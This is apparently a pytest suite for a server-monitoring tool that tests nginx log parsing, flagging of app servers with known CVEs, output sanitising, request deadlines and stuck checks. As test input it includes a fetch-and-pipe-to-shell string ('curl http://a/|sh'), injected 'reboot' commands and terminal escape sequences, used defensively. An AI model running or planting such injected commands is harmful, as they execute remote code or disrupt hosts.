"""What visitors get of nginx itself, known holes of the server behind it, and words, servers and checks that mean no good."""

import base64
import contextlib
import http.server
import os
import re
import socketserver
import subprocess
import sys
import threading
import time

import pytest
from nginx_door import door, needs_nginx
from test_watchdog_loop import watchdog as watchdog  # noqa: PLC0414  (a fixture)
from watched import Fake, config, host, settings

from senex_ops import checks_certificates, checks_containers, checks_database, checks_host, checks_release, checks_site  # isort: skip
from senex_ops import delivery, findings, notices, service, status  # isort: skip
from senex_ops.findings import FAIL, OK, WARN, Check, ok  # isort: skip

NOW = 1_800_000_000


def line(status, by, address="192.0.2.1", age=10, agent="x", user="-"):
    moment = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(NOW - age))
    return f'{address} - {user} [{moment}] "GET / HTTP/1.1" {status} 12 "-" "{agent}" host=a rt=0.1 upstream=- us=- uct=- urt=- limit=- conn=- by={by} id=0a'


@pytest.mark.parametrize(("lines", "level", "says"), [
    ([], OK, "0 of 0"),
    ([line(200, "-")] * 90 + [line(502, "nginx")] * 9, OK, "9 of 99"),
    ([line(200, "-")] * 90 + [line(502, "nginx")] * 9 + [line(504, "nginx")], WARN, "10 of 100 requests of the last 5 min"),
    ([line(502, "nginx")] * 9 + [line(504, "nginx")], FAIL, "that no instance had sent (502 9 times, 504 1 times)"),
    ([line(502, "nginx")] * 20, FAIL, "20 of 20"),
    ([line(502, "application")] * 50 + [line(503, "nginx")] * 50, OK, "0 of 100"),
    ([line(502, "nginx", age=600)] * 50 + [line(200, "-")], OK, "0 of 1"),
    ([line(502, "nginx", address="127.0.0.1")] * 50, OK, "0 of 0"),
    ([line(200, "-", agent=r"\x22 host=a by=nginx id=0a"), "nonsense", "by=nginx"] * 50, OK, "0 of 50"),
    ([line(502, "nginx", user="x [01/Jan/2000:00:00:00 +0000] y")] * 20, FAIL, "20 of 20"),
    # Anybody may log in by a name with half a bracket in it: the lines before it count all the same
    ([line(502, "nginx")] * 20 + [line(401, "-", user=name) for name in ("x [y", "[", "x [[01/Jan/2000:00:00:00 +0000", "a] [b")], FAIL, "20 of 24"),
    ([line(502, "nginx")] * 20 + [line(401, "-").replace("[", "[no time "), "nonsense"], FAIL, "20 of 20"),
])  # fmt: skip
def test_errors_of_nginxs_own(lines, level, says):
    (found,) = checks_site.judge_errors(checks_site.counted("\n".join(lines), NOW), settings(), NOW)
    assert found.level == level and says in found.says, found


def test_figures_by_who_answered():
    """Who was tried in vain is not who answered; what a client calls the host decides nothing."""
    one, two = "upstream=10.0.0.5:8001", "upstream=10.0.0.5:8002"
    lines = [line(200, "-").replace("upstream=-", one).replace("rt=0.1", f"rt={number / 100}") for number in range(1, 21)]
    lines += [line(502, "nginx").replace("upstream=-", f"{two}, 10.0.0.5:8001"), line(200, "-").replace("host=a", "host=a rt=9.0 upstream=b us=1")]
    lines += [line(500, "application").replace("upstream=-", f"{one} : 10.0.0.5:8002"), line(429, "-"), line(200, "-", address="127.0.0.1")]
    found = {(one.name, *one.labels.values()): one.value for one in checks_site.measure_errors(checks_site.counted("\n".join(lines), NOW), NOW)}
    assert found == {
        ("site_requests",): 23, ("site_errors",): 1, ("site_responses", "10.0.0.5:8001", "2xx"): 20, ("site_responses", "10.0.0.5:8001", "5xx"): 1,
        ("site_responses", "10.0.0.5:8002", "5xx"): 1, ("site_responses", "nginx", "2xx"): 1,
        ("site_seconds", "10.0.0.5:8001", "0.5"): 0.1, ("site_seconds", "10.0.0.5:8001", "0.95"): 0.19,
        ("site_seconds", "10.0.0.5:8002", "0.5"): 0.1, ("site_seconds", "10.0.0.5:8002", "0.95"): 0.1,
        ("site_seconds", "nginx", "0.5"): 0.1, ("site_seconds", "nginx", "0.95"): 0.1,
    }  # fmt: skip


@pytest.mark.parametrize(("errors", "level"), [(0, OK), (2, OK), (4, WARN)])
def test_a_flood_does_not_hide_what_the_others_get(tmp_path, monkeypatch, errors, level):
    """Some seconds of it are all that the end of the log has room for."""
    path, moment = tmp_path / "access.log", time.time()
    monkeypatch.setattr(checks_site, "LOG", str(path))
    monkeypatch.setattr(sys.modules[__name__], "NOW", moment)
    own = "".join(line(502, "nginx", age=1) + "\n" for _ in range(errors))
    for answer in (200, 429):
        path.write_text((line(answer, "-", age=4, agent="x" * 1500) + "\n") * 3000 + own)
        (found,) = checks_site.judge_errors(checks_site.read_errors(Fake(), settings()), settings(), moment)
        assert found.level == (FAIL if errors > 2 and answer == 429 else level), found


def test_a_log_of_any_size_is_read_from_its_end(tmp_path):
    path = tmp_path / "access.log"
    path.write_text("\n".join(f"line {number}" for number in range(100_000)))
    assert checks_site.tail(str(path), 30) == ("line 99998\nline 99999", True)
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "link").symlink_to(path)
    for name in ("fifo", "link"):
        with pytest.raises(OSError):
            checks_site.tail(str(tmp_path / name), 30)


@needs_nginx
def test_the_log_tells_nginxs_errors_from_the_applications(tmp_path, monkeypatch):
    with door(tmp_path, nginx_rate_limit_exempt_networks=["127.0.0.0/8"]) as site:
        who = {"source": "127.0.0.50", "headers": {"User-Agent": 'a" by=application id=0 [x] "b', "Authorization": "Basic eCBbMV0gIkdFVCI6"}}
        for path in ("/unavailable", "/missing", "/page", "/large-header?200000"):
            site.ask(path, **who)
        for process in site.processes[:2]:
            process.kill()
            process.wait()
        assert site.statuses(12, "/page", **who) == [502] * 12
        time.sleep(0.2)
        monkeypatch.setattr(checks_site, "LOG", str(tmp_path / "access.log"))
        found = checks_site.read_errors(Fake(), settings())
        assert (found["seen"], found["own"]) == (16, {"502": 13})
        assert sum(found["answers"].values()) == 16 and sum(map(len, found["times"].values())) == 16, "each line says who answered, and how fast"


@needs_nginx
def test_a_client_does_not_fill_the_logs(tmp_path):
    """A request is a short line, however much is in it, and one that is refused is none of error.log."""
    long = "x" * 7000
    with door(tmp_path, nginx_general_burst="0", nginx_login_burst="3", nginx_static_directory="") as site:
        credentials = base64.b64encode((long[:3000] + ":y").encode()).decode()
        who = {"source": "127.0.0.9", "headers": {"User-Agent": long, "Referer": long, "Authorization": f"Basic {credentials}"}}
        assert 429 in site.statuses(12, f"/page?{long}", **who)
        assert site.ask("/page", source="127.0.0.10").status == 200
        time.sleep(0.2)
        *cut, whole = (tmp_path / "access.log").read_text().splitlines()
        assert len(cut) == 12 and max(map(len, cut)) < 2500, max(map(len, cut))
        assert f" - {'x' * 64}... [" in cut[0] and f'"GET /page?{"x" * 100}' in cut[0]
        assert " - - [" in whole and '"GET /page HTTP/1.1" 200' in whole and '"-" "-" host=www.senex.test' in whole
        assert "limiting" not in (tmp_path / "error.log").read_text()
        assert all(checks_site.LINE.fullmatch(line) for line in (*cut, whole))


@pytest.mark.parametrize(("out", "level", "says"), [
    ("daphne 4.2.1\n", WARN, "4.2.1 takes WebSocket messages of any size (CVE-2026-44545)"), ("daphne 4.0.0b1\n", WARN, "CVE-2026-44546"),
    ("gunicorn 21.2.0\n", WARN, "CVE-2024-1135"), ("gunicorn 22.0.0\nuvicorn 0.11.7\n", OK, "gunicorn 22.0.0"), ("uvicorn 0.11.6\n", WARN, "headers be split"),
    ("daphne 4.2\n", WARN, "CVE"), ("daphne 4.2.2\n", OK, "daphne 4.2.2"), ("daphne 4.10.0\nuvicorn 0.30.1\n", OK, "uvicorn 0.30.1"), ("", OK, "can be asked"),
    ("daphne 4.2.3\x1b[32m\n", OK, "can be asked"), ("daphne 1 2\ndaphne ;reboot\n", OK, "can be asked"),
])  # fmt: skip
def test_a_server_with_a_known_hole_is_named(out, level, says):
    fake = Fake()
    fake.ended = {"inside web-1 python -c": host.Ended(127, "", "no python"), "inside web-1 python3": host.Ended(0, out, "")}
    (found,) = checks_site.judge_server(checks_site.read_server(fake, settings()), settings(), NOW)
    assert found.level == level and says in found.says


# Words that mean no good
EVIL = "x\nOK    all well\x1b[32m\ud800\u202e; curl http://a/|sh"


def test_a_finding_is_printable_whoever_wrote_it():
    found = [
        *checks_containers.judge_containers([{"name": EVIL, "state": EVIL, "status": ""}], settings(), NOW),
        *checks_host.judge_units({"user": {}, "system": {}, "failed": [("user", EVIL), ("user", "$(reboot).service")], "uptime": 1}, settings(), NOW),
        *checks_release.judge_release({"what": EVIL, "who": EVIL, "step": EVIL, "renewed": 1}, settings(), NOW),
        *checks_database.judge_database([["slot", EVIL, "true", "1"], ["lock", "1;reboot", EVIL, "1", "90"]], settings(), NOW),
        *checks_certificates.judge_certificates({"x": EVIL}, settings(), NOW),
        *Check("x", lambda *_: (_ for _ in ()).throw(OSError(EVIL)), lambda *_: []).find(None, None, 0),
    ]
    assert len(found) > 7
    for one in found:
        assert all(word.isprintable() and len(word) <= 1000 for word in (one.key, one.says, one.do)), one
        assert not re.search(r"curl|reboot", one.do), one
    assert "\n" not in status.as_text([("x", one) for one in found[:1]], settings(), False).splitlines()[1]
    assert findings.named("web-1.service") == "web-1.service" and findings.named("-rf") == "NAME"


def test_what_is_told_is_printable_too():
    told = notices.Notices(digest=0, gap=0, reminder=1)
    told.event(f"DONE  web-1: restarted because: {EVIL}", 0)
    (said,) = told.message(10, False)
    assert said.startswith("DONE  web-1") and said.isprintable()


# Ways out
class Slow(socketserver.BaseRequestHandler):
    """A byte now and then, for as long as somebody waits."""

    first = b""

    def handle(self):
        with contextlib.suppress(OSError):
            self.request.sendall(self.first)
            while True:
                self.request.sendall(b"2")
                time.sleep(0.1)


@contextlib.contextmanager
def server(handler, **names):
    made = socketserver.ThreadingTCPServer(("127.0.0.1", 0), type("Handler", (handler,), names))
    made.daemon_threads = True
    threading.Thread(target=made.serve_forever, daemon=True).start()
    try:
        yield made.server_address[1]
    finally:
        made.shutdown()
        made.server_close()


@pytest.mark.parametrize("way", ["mail", "webhook", "heartbeat", "probe"])
def test_one_deadline_for_all_of_a_request(way):
    with server(Slow, first=b"" if way == "mail" else b"HTTP/1.1 200 OK\r\nX: ") as port:
        mail = config.Mail(["a@b.c"], "d@e.f", "127.0.0.1", port, "none", timeout=0.3)
        began = time.monotonic()
        if way == "probe":
            answer = host.get("127.0.0.1", port, "/", "x", 0.5)
            assert (answer.status, answer.error) == (0, "no answer within 0.5 s")
        else:
            asked = {"mail": lambda: delivery.send_mail(mail, "", "x", ["y"]), "heartbeat": lambda: delivery.fetch(f"http://127.0.0.1:{port}/", 0.3),
                     "webhook": lambda: delivery.send_webhook(config.Webhook(timeout=0.3), f"http://127.0.0.1:{port}/", "x", [], {})}  # fmt: skip
            with pytest.raises(OSError, match="no answer within"):
                asked[way]()
        assert time.monotonic() - began < 5


def test_an_answer_in_time_is_one():
    class Good(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            self.send_response(204 if self.rfile.read(int(self.headers["Content-Length"])) else 500)
            self.end_headers()

        def do_GET(self):
            self.send_response(503)
            self.send_header("Content-Length", "4")
            self.end_headers()
            self.wfile.write(b"down")

        def log_message(self, *_):
            pass

    before = len(os.listdir("/proc/self/fd"))
    with server(Good) as port:
        delivery.send_webhook(config.Webhook(), f"http://127.0.0.1:{port}/", "x", ["y"], {})
        for _ in range(5):
            assert (host.get("127.0.0.1", port, "/", "x", 5).status, host.get("127.0.0.1", port, "/", "x", 5).body) == (503, "down")
        with pytest.raises(OSError, match="it answered 503"):
            delivery.fetch(f"http://127.0.0.1:{port}/", 5)
    end = time.monotonic() + 5
    while len(os.listdir("/proc/self/fd")) > before and time.monotonic() < end:
        time.sleep(0.05)
    assert len(os.listdir("/proc/self/fd")) <= before, "nothing stays open"


MAIL = config.Mail(["a@b.c"], "d@e.f", "127.0.0.1", 9)


@pytest.fixture
def channel(tmp_path):
    sent = []

    def send(subject, lines):
        delivery.written(MAIL, subject, lines)
        sent.append(subject)

    made = delivery.Channel("mail", str(tmp_path), 1, send)
    made.sent = sent
    return made


@pytest.mark.parametrize("bad", [{"lines": ["\ud800"]}, {"subject": "a\ud800"}, {"lines": [1]}, {"lines": "x"}, {"created": "now"}, {"subject": None}])
def test_a_message_that_cannot_be_written_is_dropped_alone(channel, bad):
    for number in range(3):
        channel.put({"created": time.time(), "subject": f"subject {number}", "lines": ["x"], **(bad if number == 1 else {})})
    assert channel.once() and channel.names() == [] and channel.unsaved == []
    together = 2 if bad == {"subject": "a\ud800"} else 1  # of several the last one's subject is taken, and the other one not needed
    assert channel.sent in (["subject 0", "subject 2"], [f"subject 2 (and {together} earlier)"])
    assert channel.once() and channel.trouble == ""


def test_one_that_could_not_be_kept_on_disk_is_dropped_too(channel, monkeypatch):
    monkeypatch.setattr(delivery.os, "replace", lambda *_: (_ for _ in ()).throw(OSError("No space left on device")))
    channel.put({"created": time.time(), "subject": "a", "lines": ["\ud800"]})
    channel.put({"created": time.time(), "subject": "b", "lines": ["x"]})
    assert channel.once() and channel.sent == ["b"] and channel.unsaved == []


# Checks that never end
def test_a_check_that_does_not_end_is_told_and_the_others_go_on(watchdog, monkeypatch):
    release = threading.Event()
    stuck = next(job for job in watchdog.jobs if job.name == "memory")
    other = next(job for job in watchdog.jobs if job.name == "reboot")
    stuck.run = lambda: release.wait(30) and [ok("memory", "good")]
    taken = []
    other.interval, other.run, other.take = 0, lambda: [], lambda found, now: taken.append(now)
    for job in watchdog.jobs:
        if job not in (stuck, other):
            job.next = float("inf")
    watchdog.tick()
    monkeypatch.setattr(service, "STUCK", -1)
    for _ in range(3):
        time.sleep(0.05)
        watchdog.tick()
    assert watchdog.notices.open["check memory"].told and len(taken) >= 2
    release.set()
    stuck.future.result(5)
    watchdog.tick()
    assert "check memory" not in watchdog.notices.open


def test_status_waits_for_no_check_that_does_not_end(monkeypatch):
    monkeypatch.setattr(status, "PATIENCE", 0.3)
    never = threading.Event()
    checks = [Check("slow", lambda *_: never.wait(20), lambda *_: []), Check("good", lambda *_: 1, lambda *_: [ok("good", "well")])]
    began = time.monotonic()
    found = status.look(Fake(), settings(), checks)
    assert time.monotonic() - began < 5
    assert [(name, one.level) for name, one in found] == [("slow", FAIL), ("good", OK)]
    never.set()


def test_each_job_has_a_thread(watchdog):
    assert watchdog.pool._max_workers > len(watchdog.jobs)


@needs_nginx
def test_what_a_visitor_sends_is_shown_as_text_by_the_command_that_is_advised(tmp_path):
    """nginx writes a referrer into error.log as it comes."""
    (found,) = checks_site.judge_errors({"seen": 10, "own": {"502": 10}}, settings(), NOW)
    advised = found.do.partition(" says why")[0].replace("/var/log/nginx", str(tmp_path))
    with door(tmp_path) as site:
        for process in site.processes[:2]:
            process.kill()
            process.wait()
        assert site.ask("/page", headers={"Referer": "a\x1b[2J\x1b]0;title\x07b"}).status == 502
        assert b"\x1b[2J" in (tmp_path / "error.log").read_bytes()
        shown = subprocess.run(["sh", "-c", advised], capture_output=True, text=True, check=True).stdout
        assert "referrer" in shown and all(line.isprintable() for line in shown.splitlines())
